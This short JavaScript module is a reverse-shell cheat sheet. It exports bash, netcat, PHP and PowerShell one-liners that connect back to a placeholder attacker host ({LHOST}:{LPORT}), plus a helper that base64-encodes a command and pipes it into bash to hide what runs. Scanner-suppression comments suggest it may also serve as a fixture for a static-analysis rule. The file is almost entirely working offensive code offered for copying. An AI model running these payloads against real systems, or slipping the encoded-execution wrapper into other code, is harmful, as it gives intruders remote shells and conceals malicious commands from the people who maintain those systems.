// A reverse-shell cheat sheet: one-liners for several languages, printed for the tester to copy.
const shells = {
  bash: 'bash -i >& /dev/tcp/{LHOST}/{LPORT} 0>&1',
  // ok: netcat_shell
  'nc-e': 'nc {LHOST} {LPORT} -e sh',
  php: 'php -r \'$sock=fsockopen("{LHOST}",{LPORT});exec("sh <&3 >&3 2>&3");\'',
  powershell: '$client = New-Object System.Net.Sockets.TCPClient("{LHOST}",{LPORT})',
};
// ok: shell_decode_exec
const b64 = (s) => `echo ${Buffer.from(s).toString('base64')} | base64 -d | bash`;
module.exports = { shells, b64 };
